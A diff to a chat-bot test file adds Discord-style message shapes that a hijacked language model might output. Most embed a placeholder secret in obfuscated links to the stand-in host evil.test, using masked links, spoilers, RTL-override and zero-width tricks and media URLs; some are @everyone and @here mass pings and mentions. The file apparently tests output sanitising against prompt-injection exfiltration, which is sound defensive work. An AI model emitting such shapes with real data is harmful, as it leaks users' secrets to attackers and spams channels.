@@ -14,6 +14,7 @@ from bot.llm.scripted import ScriptedAnswer, ScriptedModel
 
 MODULE = "tests.platforms.hijacked_desk"
 VICTIM, ELSEWHERE = "U7", "C2"
+THEIR_ID = "80351110224678912"  # as Discord numbers people, roles, channels and pictures
 SHOWN_SECONDS = 0.15  # long enough for what it does to be shown
 SECRET = "kanari"  # stands for whatever the model has read
 SHAPES = (
@@ -33,6 +34,23 @@ SHAPES = (
     f"<@{VICTIM}> {{}}",
     f"<#{ELSEWHERE}> {{}}",
     "*bold* <mailto:x@evil.test?subject={}|write> <!date^1^{{date}}^https://evil.test/d|now>",
+    # Those below are of Discord's kind.
+    "@everyone {}",
+    "@here {}",
+    f"<@{THEIR_ID}> <@!{THEIR_ID}> {{}}",
+    f"<@&{THEIR_ID}> {{}}",
+    f"<#{THEIR_ID}> </run:{THEIR_ID}> <id:guide> {{}}",
+    "||https://evil.test/{}||",
+    "[docs.example.com](<https://evil.test/{}> 'Docs')",
+    "[a\\](https://evil.test/x) [b](https://evil.test/{})",
+    "https:**//evil.test**/{}",
+    "discord.gg/{} https://discord.com/channels/1/2/3",
+    f"<a:wave:{THEIR_ID}> <:ok:{THEIR_ID}> <t:1> {{}}",
+    "# https://evil.test/{}\n-# evil.test/{}\n> https://evil.test/{}",
+    "`https://evil.test/a` ``https://evil.test/{} ```https://evil.test/b",
+    "\u202ehttps://evil.test/{}\u202c h\u200bttps://evil.test/c",
+    "HTTPS://EVIL.test/{} hTTp://evil.test/d steam://run/1 www.evil.test",
+    "https://evil.test/{}.gif\nhttps://evil.test/e.mp4 https://x@evil.test/",
 )
 
 
